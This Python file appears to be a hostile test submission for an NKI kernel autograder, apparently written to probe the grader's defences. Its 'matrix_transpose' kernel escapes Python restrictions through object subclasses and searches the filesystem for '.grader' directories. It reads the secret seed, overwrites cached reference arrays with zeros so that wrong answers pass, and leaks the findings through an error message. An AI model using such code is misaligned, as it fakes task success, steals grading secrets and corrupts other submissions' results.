"""Hostile (screen off): escapes the Python restrictions, looks for the batch's private directory (the secret class
seed and the shared reference cache) anywhere it can reach, tries to read the seed and to overwrite every cached
reference with zeros (so that its own wrong output, or everyone's, would match), and reports what it found in its
error message."""

import neuronxcc.nki as nki


def _sys():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["sys"]
    raise RuntimeError("no escape found")


def _find(os, tops, depth, found, budget):
    """Breadth first, so the shallow places (where a grading's directory sits) are all seen before the budget goes
    on deep trees that happen to be listed first."""
    level = list(tops)
    for _ in range(depth + 1):
        deeper = []
        for top in level:
            if budget[0] <= 0:
                return
            budget[0] -= 1
            try:
                names = os.listdir(top)
            except OSError:
                continue
            for name in names:
                path = top.rstrip("/") + "/" + name
                if name == ".grader":
                    found.append(path)
                elif name.startswith(".") or name in ("proc", "sys", "dev", "site-packages", "node_modules"):
                    continue
                elif not os.path.islink(path) and os.path.isdir(path):
                    deeper.append(path)
        level = deeper


@nki.jit
def matrix_transpose(a_tensor):
    os = _sys().modules["os"]
    found, report = [], []
    # first around the directory it runs in (a grading keeps its private files near its scratch space), nearest
    # ancestor first, so that what it finds does not depend on how many old gradings the machine holds
    near, budget = [], [20000]
    parts = os.getcwd().rstrip("/").split("/")
    for cut in range(len(parts) - 1, 1, -1):
        _find(os, ("/".join(parts[:cut]),), 3, near, budget)
    # then the usual places, however many old gradings /tmp holds: the newest first
    budget = [50000]
    _find(os, ("/tmp", "/home", "/root", "/srv", "/autograder", "/work"), 7, found, budget)

    def age(path):
        try:
            return -os.stat(path).st_mtime
        except OSError:  # another grading's directory, removed since
            return 0.0

    near = list(dict.fromkeys(near))
    found = (near + sorted((f for f in found if f not in near), key=age))[:20]
    for private in found:
        for root, _, files in os.walk(private):
            for name in files:
                path = root + "/" + name
                try:
                    fd = os.open(path, os.O_RDONLY)
                    data = os.read(fd, 200)
                    os.close(fd)
                    report.append("READ " + path + " " + repr(data[:60]))
                except OSError as exc:
                    report.append("cannot read " + path + ": " + exc.strerror)
                if name.endswith(".npy"):
                    try:
                        fd = os.open(path, os.O_WRONLY)
                        os.lseek(fd, 128, 0)
                        os.write(fd, bytes(4096))
                        os.close(fd)
                        report.append("WROTE " + path)
                    except OSError as exc:
                        report.append("cannot write " + path + ": " + exc.strerror)
    raise RuntimeError("private dirs " + repr(found) + "; " + "; ".join(report))
